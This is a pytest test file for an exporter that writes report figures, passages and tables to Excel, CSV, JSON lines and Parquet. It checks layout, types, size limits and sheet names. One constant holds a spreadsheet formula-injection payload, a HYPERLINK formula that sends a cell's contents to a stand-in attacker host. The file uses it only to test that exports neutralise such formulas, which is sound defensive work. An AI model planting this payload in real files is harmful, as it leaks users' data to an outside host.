"""Exports: complete, readable by other programs, within the limits of each format, and nothing in it runs."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import datetime
from typing import TYPE_CHECKING, Any

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from shared.documents import export
from shared.documents.export import (
    DOCUMENTS,
    FIGURES,
    INITIATIVES,
    PASSAGES,
    Content,
    csv_lines,
    harmless,
    in_order,
    json_lines,
    write_parquet,
    write_workbook,
)
from shared.documents.views import quantity

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from openpyxl.workbook import Workbook

HARM = 'HYPERLINK("http://attacker.example/?"&A1)'


def document(**more: Any) -> dict[str, Any]:
    return {
        "id": "e9e050f1b94448f4bb9ae6b3",
        "name": "report.pdf",
        "title": "Report 2024",
        "organisation": "Tarnholm Fibre",
        "year": 2024,
        "state": "completed",
        "pages": 12,
        "passages": 1,
        "sentiment": {"positive": 0, "neutral": 0, "negative": 1},
        "topics": {"E1": 0, "E3": 1},
        "initiatives": 0,
        "timings": {"completed_at": "2026-11-20T10:15:00+00:00"},
        "summary": [{"page": 3, "text": "A pump failed."}],
    } | more


def passage(**more: Any) -> dict[str, Any]:
    return {
        "index": 0,
        "page": 3,
        "row": None,
        "section": "Water",
        "language": "en",
        "kind": "text",
        "sentiment": {"label": "negative", "scores": {"positive": 0.1, "neutral": 0.2, "negative": 0.7}},
        "topics": [{"name": "E3", "score": 0.9}, {"name": "E2", "score": 0.6}],
        "action": {"label": "none", "scores": {"implemented": 0.2, "planned": 0.1, "none": 0.7}},
        "label": None,
        "figures": [{"text": "11 hours"}, {"text": "2025"}],
        "text": "A pump failed, and the river was polluted for 11 hours.",
        "truncated": False,
        "salience": 2.5,
        "initiative": False,
        "initiative_score": 0.1,
    } | more


def figure(**more: Any) -> dict[str, Any]:
    return {
        "kind": "quantity",
        "value": 12_345.6,
        "unit": "tCO2e",
        "text": "12,345.6 tCO2e",
        "printed": "12,345.6",
        "metric": "Emissions > Scope 1",
        "period": "2024",
        "qualifier": None,
        "change": -3.2,
        "against": "2023",
        "topic": "E1",
        "datapoint": "E1-6.scope1",
        "confidence": 0.97,
        "page": 7,
        "table": 0,
        "cell": [2, 1],
    } | more


def table(**more: Any) -> dict[str, Any]:
    return {
        "number": 0,
        "page": 7,
        "caption": "Emissions: by scope [t]",
        "columns": 3,
        "labels": 1,
        "notes": ["1) Mills alone"],
        "rows": [
            {"kind": "head", "level": 0, "cells": [cell(0, "Scope"), cell(1, "2024"), cell(2, "2023")]},
            {"kind": "group", "level": 0, "cells": [cell(0, "Emissions")]},
            {"kind": "row", "level": 1, "cells": [cell(0, "Scope 1"), cell(1, "12,345.6"), cell(2, "n/a")]},
        ],
    } | more


def cell(column: int, text: str) -> dict[str, Any]:
    return {"text": text, "column": column, "row_span": 1, "column_span": 1}


def content(**parts: Any) -> Content:
    defaults: dict[str, Any] = {
        "document": document(),
        "figures": [figure()],
        "tables": [table()],
        "passages": [passage()],
        "link": lambda page: f"https://files.example/report.pdf#page={page}",
    }
    return Content(**(defaults | parts))


def workbook(*contents: Content) -> tuple[Workbook, list[str]]:
    file = io.BytesIO()
    notes = write_workbook(contents, file)
    return load_workbook(io.BytesIO(file.getvalue())), notes


def rows(book: Workbook, sheet: str) -> list[dict[str, Any]]:
    heads, *values = book[sheet].iter_rows(values_only=True)
    return [dict(zip(map(str, heads), row, strict=True)) for row in values]


def read_csv(lines: Iterator[str]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(lines), newline="")))


def test_a_workbook_has_a_sheet_of_each_kind_and_one_a_table() -> None:
    """Numbers are numbers, moments are moments, and a table is named by its page and caption."""
    planned = passage(index=1, action={"label": "planned", "scores": {"planned": 0.8}}, initiative=True)
    book, notes = workbook(content(passages=[passage(), planned]))
    assert book.sheetnames == [
        "Documents", "Key figures", "Initiatives", "Passages", "p7 Emissions by scope t",
    ]  # fmt: skip
    assert notes == []
    [of_document] = rows(book, "Documents")
    assert of_document["completed"] == datetime(2026, 11, 20, 10, 15)  # noqa: DTZ001 - Excel has no zones
    assert (of_document["year"], of_document["topics"], of_document["negative"]) == (2024, "E3:1", 1)
    [of_figure] = rows(book, "Key figures")
    assert (of_figure["value"], of_figure["unit"], of_figure["datapoint"]) == (
        12_345.6,
        "tCO2e",
        "E1-6.scope1",
    )
    assert (of_figure["change_percent"], of_figure["page"], of_figure["qualifier"]) == (-3.2, 7, None)
    [initiative] = rows(book, "Initiatives")
    assert (initiative["action"], initiative["action_score"], initiative["topic"]) == ("planned", 0.8, "E3")
    first, second = rows(book, "Passages")
    assert (first["negative"], first["topic_score"], first["implemented"]) == (0.7, 0.9, 0.2)
    assert first["truncated"] is False
    assert second["index"] == 1


def test_a_table_keeps_its_layout_with_units_in_a_column_of_their_own() -> None:
    """The value of a figure stands in its cell; what is no figure stands there as text."""
    book, _ = workbook(content())
    sheet = book["p7 Emissions by scope t"]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("Report 2024", None, None, None),
        ("Page 7", None, None, None),
        ("Emissions: by scope [t]", None, None, None),
        ("Scope", "Unit", "2024", "2023"),
        ("Emissions", None, None, None),
        ("Scope 1", "tCO2e", 12_345.6, "n/a"),
        ("1) Mills alone", None, None, None),
    ]
    assert sheet["A6"].alignment.indent == 1


def test_a_cell_that_says_more_than_a_figure_stays_text() -> None:
    """Two figures, or words beside one; a footnote's mark and a unit are no words."""
    texts = {"60 by 2030": ["60"], "12, 14": ["12", "14"], "9.1 t": ["9.1 t"], "8.2 ¹": ["8.2"], "n/a": []}
    figures = [
        figure(value=float(said.split()[0]), text=said, printed=said.split()[0], cell=[at, 1])
        for at, parts in enumerate(texts.values())
        for said in parts
    ]
    lines = [{"kind": "row", "level": 0, "cells": [cell(0, "x"), cell(1, text)]} for text in texts]
    book, _ = workbook(content(figures=figures, tables=[table(caption="cells", rows=lines, notes=[])]))
    values = [row[2] for row in book["p7 cells"].iter_rows(min_row=4, values_only=True)]
    assert values == ["60 by 2030", "12, 14", 9.1, 8.2, "n/a"]


def test_pages_link_to_the_page_of_the_document() -> None:
    """Figures, passages and tables link to their pages, which stay numbers."""
    book, _ = workbook(content())
    linked = [book["Key figures"]["M2"], book["Passages"]["C2"], book["p7 Emissions by scope t"]["A2"]]
    assert [(each.hyperlink.target, each.hyperlink.location) for each in linked] == [
        ("https://files.example/report.pdf", "page=7"),
        ("https://files.example/report.pdf", "page=3"),
        ("https://files.example/report.pdf", "page=7"),
    ]
    assert [each.value for each in linked] == [7, 3, "Page 7"]


def test_without_an_address_there_is_no_link() -> None:
    """A document that has no pages has none either."""
    book, _ = workbook(content(link=lambda _: None, figures=[figure(page=None)]))
    assert book["Passages"]["C2"].hyperlink is None
    assert rows(book, "Key figures")[0]["page"] is None


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d"])
def test_no_cell_is_a_formula(start: str) -> None:
    """Wherever an uploader's words land: text, section, label, file name, caption, cell or unit."""
    harm = f"{start}{HARM}"
    harmful = content(
        document=document(name=harm, title=harm, organisation=harm),
        figures=[figure(metric=harm, unit=harm, printed=harm)],
        passages=[passage(text=harm, section=harm, label=harm)],
        tables=[table(caption=harm, notes=[harm], rows=[{"kind": "row", "cells": [cell(0, harm)]}])],
    )
    [row] = read_csv(csv_lines([harmful], PASSAGES))
    for column in ("document", "text", "section", "label"):
        assert row[column] == f"'{harm}"
    book, _ = workbook(harmful)
    texts = [
        each for sheet in book for line in sheet.iter_rows() for each in line if HARM in str(each.value or "")
    ]
    assert len(texts) >= 12
    assert all(each.data_type == "s" and str(each.value).startswith("'") for each in texts)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("-", "-"),
        ("-3.2%", "-3.2%"),
        ("+49 30 1234", "+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("=1", "'=1"),
        ("", ""),
    ],
)
def test_numbers_and_dashes_are_no_formulas(text: str, shown: str) -> None:
    """A dash in a table says that there is nothing, and stays a dash."""
    assert harmless(text) == shown


def test_names_of_sheets_are_what_excel_accepts() -> None:
    """At most 31 characters, none that is forbidden, no two alike in spite of case, none of Excel's own."""
    captions = ["A" * 60, "a" * 60, "[x]:*?/\\'", "'", "", "", "\U0001f600" * 40, "History"]
    tables = [table(number=at, caption=caption, page=None) for at, caption in enumerate(captions)]
    book, _ = workbook(
        content(
            tables=[*tables, table(number=9, page=None, caption=""), table(number=9, page=None, caption="")]
        )
    )
    names = book.sheetnames[4:]
    assert len(names) == 10
    assert len({name.casefold() for name in book.sheetnames}) == len(book.sheetnames)
    for name in names:
        assert len(name.encode("utf-16-le")) <= 62
        assert not set(name) & set("[]:*?/\\")
        assert name.strip("'") == name


def test_no_character_breaks_a_workbook() -> None:
    """Characters that XML does not allow are escaped in texts, and left out of names."""
    harm = "".join(map(chr, (*range(32), 0x7F, 0xFFFE, 0xFFFF))) + "<&>"
    book, _ = workbook(content(passages=[passage(text=f"x{harm}")], tables=[table(caption=f"x{harm}")]))
    assert book.sheetnames[4] == "p7 x <&>"
    text = str(rows(book, "Passages")[0]["text"])
    assert (text[0], text[-3:]) == ("x", "<&>")


def test_what_a_workbook_has_no_room_for_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    """Rows, columns, links, characters and sheets end by a limit with a name; the rest is written."""
    monkeypatch.setattr(export, "MAX_ROWS", 6)
    monkeypatch.setattr(export, "MAX_COLUMNS", 3)
    monkeypatch.setattr(export, "MAX_LINKS", 2)
    monkeypatch.setattr(export, "MAX_TABLES", 1)
    monkeypatch.setattr(export, "MAX_CELL", 300)
    many = [passage(index=at, text="x" * 301) for at in range(7)]
    book, notes = workbook(content(passages=many, tables=[table(), table(number=1)]))
    assert [row["index"] for row in rows(book, "Passages")] == [0, 1, 2, 3, 4]
    assert len(rows(book, "Passages")[0]["text"]) == 300
    assert len(book.sheetnames) == 5
    assert sorted(notes) == [
        "Characters of a cell after the first 300: cells: 5 left out or cut.",
        "Columns of a table after the first 3: cells: 2 left out or cut.",
        "Links of a sheet after the first 2: 3 left out or cut.",
        "Rows of a table after the first 6: 1 left out or cut.",
        "Rows of “Passages” after the first 5: 2 left out or cut.",
        "Tables after the first 1: 1 left out or cut.",
    ]


def test_a_cell_is_cut_between_characters() -> None:
    """Excel counts in UTF-16, of which an emoji has two units."""
    book, notes = workbook(content(passages=[passage(text="x" + "\U0001f600" * 20_000)]))
    assert rows(book, "Passages")[0]["text"] == "x" + "\U0001f600" * 16_383
    assert len(notes) == 1


def test_a_workbook_is_written_in_bounded_memory(tmp_path: Path) -> None:
    """Eight megabytes of text pass through some two."""
    passages = (passage(index=at, text=f"{at} " + "word " * 400) for at in range(4_000))
    tracemalloc.start()
    with (tmp_path / "many.xlsx").open("wb") as file:
        write_workbook([content(passages=passages, link=lambda _: None)], file)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 3 << 20


def test_figures_with_a_data_point_come_first() -> None:
    """By its code, the newest period and totals first; the others stay in the order of the document."""
    figures = [
        figure(datapoint=None, metric="b"),
        figure(datapoint="E3-4.withdrawal", period=None),
        figure(datapoint="E3-4.withdrawal", period="2023", metric="part"),
        figure(datapoint="E3-4.withdrawal", period="2023", qualifier="total"),
        figure(datapoint="E1-6.scope1", period="2023"),
        figure(datapoint=None, metric="a"),
        figure(datapoint="E1-6.scope1", period="2024"),
    ]
    assert [(each["datapoint"], each["period"], each["metric"][:1]) for each in in_order(figures)] == [
        ("E1-6.scope1", "2024", "E"),
        ("E1-6.scope1", "2023", "E"),
        ("E3-4.withdrawal", "2023", "E"),
        ("E3-4.withdrawal", "2023", "p"),
        ("E3-4.withdrawal", None, "E"),
        (None, "2024", "b"),
        (None, "2024", "a"),
    ]


def test_csv_of_passages() -> None:
    """Every column has its value; what is not known is empty."""
    [row] = read_csv(csv_lines([content()], PASSAGES))
    assert tuple(row) == tuple(PASSAGES.columns)
    assert row == {
        "document": "report.pdf",
        "index": "0",
        "page": "3",
        "row": "",
        "section": "Water",
        "language": "en",
        "sentiment": "negative",
        "topics": "E3 E2",
        "action": "none",
        "label": "",
        "figures": "11 hours; 2025",
        "text": "A pump failed, and the river was polluted for 11 hours.",
        "kind": "text",
        "topic_score": "0.9",
        "positive": "0.1",
        "neutral": "0.2",
        "negative": "0.7",
        "implemented": "0.2",
        "planned": "0.1",
        "truncated": "false",
        "salience": "2.5",
        "initiative": "false",
        "initiative_score": "0.1",
    }


def test_a_language_that_the_model_does_not_know_has_empty_labels() -> None:
    """Neither labels nor scores, and nothing fails."""
    unknown = passage(language="fr", sentiment=None, topics=[], action=None)
    [row] = read_csv(csv_lines([content(passages=[unknown])], PASSAGES))
    assert (row["sentiment"], row["topics"], row["action"], row["negative"]) == ("", "", "", "")


def test_several_documents_have_one_line_of_heads() -> None:
    """Also where one has no passages, and where there is no document at all."""
    contents = [
        content(document=document(name=name), passages=[passage(index=at) for at in range(count)])
        for name, count in (("none", 0), ("a", 1), ("b", 2))
    ]
    lines = read_csv(csv_lines(contents, PASSAGES))
    assert [(row["document"], row["index"]) for row in lines] == [("a", "0"), ("b", "0"), ("b", "1")]
    assert "".join(csv_lines([], PASSAGES)) == ",".join(PASSAGES.columns) + "\r\n"


@given(st.text())
def test_any_text_comes_back(text: str) -> None:
    """Quotes, delimiters and line ends in a text do not break its row."""
    text = text.replace("\x00", "")
    [row] = read_csv(csv_lines([content(passages=[passage(text=text)])], PASSAGES))
    assert row["text"].removeprefix("'") == text.removeprefix("'")


def test_json_lines_say_of_each_line_what_it_is() -> None:
    """A document comes before its figures, tables and passages, each of which names it."""
    lines = [json.loads(line) for line in json_lines([content()])]
    assert [line["type"] for line in lines] == ["document", "figure", "table", "passage"]
    assert lines[0] == {"type": "document", **document()}
    assert all(line["document"] == document()["id"] for line in lines[1:])
    assert lines[1]["value"] == 12_345.6
    assert lines[2]["rows"] == table()["rows"]


@pytest.mark.parametrize("sheet", [FIGURES, INITIATIVES, PASSAGES], ids=lambda sheet: sheet.name)
def test_parquet_is_read_by_duckdb(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sheet: Any) -> None:
    """Columns have the types of their sheet, absent values are null, and batches follow each other."""
    monkeypatch.setattr(export, "BATCH", 2)
    action = {"label": "planned", "scores": {"planned": 0.8}}
    passages = [passage(index=at, text="=1", action=action, initiative=True) for at in range(5)]
    path = tmp_path / "rows.parquet"
    with path.open("wb") as file:
        write_parquet([content(passages=passages, figures=[figure(value=3, page=None)] * 5)], sheet, file)
    read = duckdb.connect().sql(f"SELECT * FROM '{path}'")
    sql = {str: "VARCHAR", int: "BIGINT", float: "DOUBLE", bool: "BOOLEAN"}
    assert dict(zip(read.columns, map(str, read.types), strict=True)) == {
        name: sql[kind] for name, kind in sheet.columns.items()
    }
    found = read.fetchall()
    expected = {"Key figures": ("value", [3.0] * 5), "Passages": ("index", [0, 1, 2, 3, 4])}
    column, values = expected.get(sheet.name, ("action_score", [0.8] * 5))
    at = read.columns.index(column)
    assert [row[at] for row in found] == values
    if sheet is FIGURES:
        assert {row[read.columns.index("page")] for row in found} == {None}
    else:
        assert {row[read.columns.index("text")] for row in found} == {"=1"}


def test_parquet_without_rows_has_its_columns(tmp_path: Path) -> None:
    """A document without figures is no error."""
    path = tmp_path / "none.parquet"
    with path.open("wb") as file:
        write_parquet([], FIGURES, file)
    assert duckdb.connect().sql(f"SELECT * FROM '{path}'").columns == list(FIGURES.columns)


@pytest.mark.parametrize("sheet", [DOCUMENTS, FIGURES, INITIATIVES, PASSAGES], ids=lambda sheet: sheet.name)
def test_a_row_has_a_value_for_each_column(sheet: Any) -> None:
    """A value has the type of its column, or is none, also where a record has only what it must have."""
    least = {"name": "a.pdf", "id": "0" * 24, "value": 1.0, "index": 0, "text": "x"}
    whole = document() if sheet is DOCUMENTS else passage() | figure()
    for record in (least, whole):
        row = sheet.row(document(), record)
        assert len(row) == len(sheet.columns)
        for value, kind in zip(row, sheet.columns.values(), strict=True):
            assert value is None or isinstance(value, kind)


@pytest.mark.parametrize(
    ("value", "unit", "shown"),
    [
        (12_345.6, "tCO2e", "12,345.6 tCO2e"),
        (12.5, "%", "12.5%"),
        (3_200_000.0, "EUR", "EUR 3,200,000"),
        (2030.0, "year", "2030"),
        (-4.0, None, "-4"),
        (0.00042, "t", "0.00042 t"),
        (0.0, "people", "0 people"),
    ],
)
def test_a_quantity_is_written_as_people_write_it(value: float, unit: str | None, shown: str) -> None:
    """Thousands are set apart, and no decimals are shown that are none."""
    assert quantity(value, unit) == shown
